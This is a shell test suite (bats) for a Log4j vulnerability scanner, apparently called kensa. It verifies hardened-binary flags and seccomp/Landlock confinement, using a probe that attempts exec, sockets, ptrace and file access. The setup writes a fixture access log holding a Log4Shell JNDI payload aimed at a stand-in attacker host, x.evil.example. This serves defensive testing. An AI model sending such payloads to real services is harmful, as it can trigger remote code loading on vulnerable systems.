#!/usr/bin/env bats
# harden.bats - what an attacker who owns a parser bug finds: a binary
# built hardened (read back with readelf), and a process that, once the
# command line is read, can no longer run programs, open network sockets,
# trace, read beyond its roots or write beyond its spill folder.

load helpers

setup_file() {
    make_fixtures
    export H="$BATS_FILE_TMPDIR/h" PROBE="$KENSA_BUILD/tests/helpers/kensa-probe.so"
    mkdir -p "$H/root" "$H/spill" "$H/out" "$H/elsewhere"
    # a jar, tarballs (one spilled to $TMPDIR, one with a UTF-8 pax name,
    # which makes libarchive call iconv) and a log with an attack
    cp "$FX/plain/log4j-core-2.14.1.jar" "$FX/nested/image.tar.gz" "$H/root/"
    cp "$FX/big/image.tar.gz" "$H/root/big.tar.gz"
    python3 - "$FX/plain/log4j-core-2.14.1.jar" "$H/root/pax.tar.gz" <<'PY'
import io, sys, tarfile
data = open(sys.argv[1], 'rb').read()
with tarfile.open(sys.argv[2], 'w:gz', format=tarfile.PAX_FORMAT) as t:
    ti = tarfile.TarInfo('opt/\u00fcn\u00efcode-\u65e5\u672c/lib/log4j-core.jar')
    ti.size = len(data)
    t.addfile(ti, io.BytesIO(data))
PY
    printf '%s\n' '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://x.evil.example:1389/a} HTTP/1.1" 200 5 "-" "curl/7.0"' \
        > "$H/root/access.log"
    echo "not for kensa" > "$H/secret.txt"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$H/elsewhere/linked.jar"
}

# True when $KENSA is the AddressSanitizer build (make asan).
asan_build() {
    readelf -dW "$KENSA" | grep -q 'NEEDED.*libasan' ||
        readelf --dyn-syms -W "$KENSA" | grep -q '__asan_init'
}

# The kernel's Landlock ABI, 0 without: asked directly, not through kensa.
landlock_abi() {
    python3 -c 'import ctypes
print(max(ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1), 0))'
}

# probe ARGS...: run kensa ARGS (through $PROBE_WRAP if set) with
# tests/helpers/probe.c preloaded and $H/spill as TMPDIR; the probe's
# lines land in $H/probe.txt.
probe() {
    [ -f "$PROBE" ] || skip "the probe library was not built (-Dtests=disabled)"
    rm -f "$H/out/pwned" "$H/probe.txt"
    TMPDIR="$H/spill" KENSA_PROBE_FD=7 KENSA_PROBE_WRITE="$H/out/pwned" \
    KENSA_PROBE_READ="$H/secret.txt" LD_PRELOAD="$PROBE" \
    ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0" \
        ${PROBE_WRAP:+"$PROBE_WRAP"} "$KENSA" "$@" --threads 1 --color never 7>"$H/probe.txt" >"$H/stdout" 2>"$H/stderr" || true
    cat "$H/probe.txt"
    grep -q '^spill ' "$H/probe.txt" || { echo "the probe did not run"; cat "$H/stderr"; false; }
}

# attempt WHAT: the probe's result for WHAT (OK or an errno name)
attempt() {
    sed -n "s/^$1 //p" "$H/probe.txt"
}

# denied WHAT: the attempt failed for lack of permission
denied() {
    case $(attempt "$1") in
        EPERM|EACCES) return 0 ;;
        *) echo "$1 was not denied: $(attempt "$1")"; return 1 ;;
    esac
}

@test "hardened build: PIE, full RELRO, BIND_NOW, canaries, fortified calls, no executable stack" {
    run readelf -hW "$KENSA"
    [[ "$output" == *"Type:"*"DYN"* ]] || { echo "not PIE"; false; }
    run readelf -lW "$KENSA"
    [[ "$output" == *"GNU_RELRO"* ]] || { echo "no GNU_RELRO segment"; false; }
    stack=$(echo "$output" | awk '$1 == "GNU_STACK" { print $(NF-1) }')
    [ "$stack" = "RW" ] || { echo "GNU_STACK is '$stack', not RW"; false; }
    run readelf -dW "$KENSA"
    echo "$output" | grep -qE '\(FLAGS\).*BIND_NOW|\(FLAGS_1\).*NOW' ||
        { echo "no BIND_NOW: RELRO is partial"; false; }
    run readelf --dyn-syms -W "$KENSA"
    [[ "$output" == *" __stack_chk_fail"* ]] || { echo "no stack protector"; false; }
    if asan_build; then
        skip "ASan build: _FORTIFY_SOURCE is left out where the sanitizer intercepts the same calls"
    fi
    echo "$output" | grep -qE ' __[a-z0-9_]+_chk(@|$)' || { echo "no fortified import"; false; }
}

@test "confined: running programs and opening network sockets fail with EPERM; --no-confine lets them" {
    probe scan "$H/root"
    [ "$(attempt exec)" = EPERM ]
    [ "$(attempt socket)" = EPERM ]
    [ "$(attempt spill)" = OK ]
    probe scan --no-confine "$H/root"
    [ "$(attempt exec)" = OK ]
    [ "$(attempt socket)" = OK ]
}

@test "confined: ptrace fails with EPERM; --no-confine lets it" {
    if asan_build; then
        skip "ASan build: LeakSanitizer stops threads with ptrace at exit, so the filter leaves ptrace alone"
    fi
    probe scan "$H/root"
    [ "$(attempt ptrace)" = EPERM ]
    probe scan --no-confine "$H/root"
    [ "$(attempt ptrace)" = OK ] || skip "this environment forbids ptrace already: $(attempt ptrace)"
}

@test "Landlock: nothing read outside the roots, nothing written outside the spill folder; --no-confine lets both" {
    [ "$(landlock_abi)" -gt 0 ] || skip "this kernel has no Landlock (or it is off)"
    probe scan "$H/root"
    denied write
    denied read
    [ ! -e "$H/out/pwned" ]
    [ "$(attempt spill)" = OK ]
    probe scan --no-confine "$H/root"
    [ "$(attempt write)" = OK ]
    [ "$(attempt read)" = OK ]
    [ -e "$H/out/pwned" ]
}

@test "a confined scan finds what an unconfined one finds: jar, tarballs (spilled, pax names), log" {
    export TMPDIR="$H/spill"
    run k scan --json "$H/root"
    [ "$status" -eq 1 ]
    confined=$(echo "$output" | jq -c 'select(.event.action!="scan-completed") | del(."@timestamp", .event.created, .kensa.scan_id)' | sort)
    run k scan --json --no-confine "$H/root"
    [ "$status" -eq 1 ]
    free=$(echo "$output" | jq -c 'select(.event.action!="scan-completed") | del(."@timestamp", .event.created, .kensa.scan_id)' | sort)
    [ "$confined" = "$free" ]
    # four copies of log4j 2.14.1, the attack in the log, and no warning
    [ "$(echo "$confined" | jq -r 'select(.event.kind!="event") | .kensa.verdict' | sort | uniq -c | tr -s ' ')" = " 1 attack
 4 vulnerable" ]
    [ "$(echo "$confined" | jq -r 'select(.event.kind=="event")' | wc -l)" -eq 0 ]
    echo "$confined" | grep -q 'big.tar.gz!/opt/app/big.jar'
    echo "$confined" | grep -q 'pax.tar.gz!/opt/ünïcode-日本/lib/log4j-core.jar'
}

@test "nothing a scan needs is denied: strace sees no EACCES or EPERM" {
    command -v strace >/dev/null || skip "strace is not installed"
    strace -o /dev/null true 2>/dev/null || skip "strace cannot trace here"
    TMPDIR="$H/spill" strace -f -qq -Z -o "$H/strace.txt" \
        "$KENSA" scan --threads 2 --json -o /dev/null "$H/root" || true
    grep -q 'landlock_restrict_self\|seccomp(SECCOMP_SET_MODE_FILTER' "$H/strace.txt"
    ! grep -E '= -1 E(ACCES|PERM) ' "$H/strace.txt"
}

@test "the summary names the confinement; --no-confine says none" {
    run "$KENSA" scan --threads 1 "$H/root"
    if [ "$(landlock_abi)" -gt 0 ]; then
        [[ "$output" == *"Confinement: landlock ABI $(landlock_abi), seccomp"* ]]
    else
        [[ "$output" == *"Confinement: seccomp"*"(landlock: not supported by this kernel)"* ]]
    fi
    run "$KENSA" logs --threads 1 --no-confine "$H/root/access.log"
    [[ "$output" == *"Confinement: none (--no-confine)"* ]]
}

@test "on a kernel without Landlock: seccomp alone, and the summary says so" {
    NOLL="$KENSA_BUILD/tests/helpers/nolandlock"
    [ -x "$NOLL" ] || skip "tests/helpers were not built (-Dtests=disabled)"
    TMPDIR="$H/spill" run "$NOLL" "$KENSA" scan --threads 1 --json -o /dev/null "$H/root"
    [ "$status" -eq 1 ]
    [[ "$output" == *"Confinement: seccomp"*"(landlock: not supported by this kernel)"* ]]
    PROBE_WRAP="$NOLL" probe scan "$H/root"
    [ "$(attempt exec)" = EPERM ]
    [ "$(attempt write)" = OK ]
}

@test "outputs are opened before confinement: -o and --export-iocs outside the spill folder" {
    rm -f "$H/out/r.json" "$H/out/iocs.csv"
    TMPDIR="$H/spill" run k logs --json -o "$H/out/r.json" --export-iocs "$H/out/iocs.csv" "$H/root"
    [ "$status" -eq 1 ]
    [ "$(count_alerts < "$H/out/r.json")" -eq 1 ]
    grep -q '^"host","x.evil.example"' "$H/out/iocs.csv"
    run k logs --export-iocs "$H/nosuch/iocs.csv" "$H/root/access.log"
    [ "$status" -eq 2 ]
    [[ "$output" == *"cannot write $H/nosuch/iocs.csv"* ]]
}

@test "--follow-symlinks: a link may lead outside the roots, so reads are not fenced" {
    mkdir -p "$H/links"
    ln -sf "$H/elsewhere/linked.jar" "$H/links/app.jar"
    TMPDIR="$H/spill" run k log4j --json -L "$H/links"
    [ "$status" -eq 1 ]
    [ "$(echo "$output" | count_alerts)" -eq 1 ]
}

@test "--fix and --restore: the system-call filter only, and both still work" {
    W="$BATS_TEST_TMPDIR/w"
    mkdir -p "$W"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$W/a.jar"
    probe log4j --fix --backup-dir "$BATS_TEST_TMPDIR/bak" "$W"
    [ "$(attempt exec)" = EPERM ]
    [ "$(attempt socket)" = EPERM ]
    [ "$(attempt write)" = OK ]
    grep -q "fixed $W/a.jar: removed 1" "$H/stdout"
    grep -q "Confinement: seccomp.*(landlock: not requested)" "$H/stderr"
    run "$KENSA" log4j --restore "$BATS_TEST_TMPDIR"/bak/*-a.jar.kensa-bak
    [ "$status" -eq 0 ]
    [[ "$output" == *"restored $W/a.jar"* ]]
    cmp "$W/a.jar" "$FX/plain/log4j-core-2.14.1.jar"
}
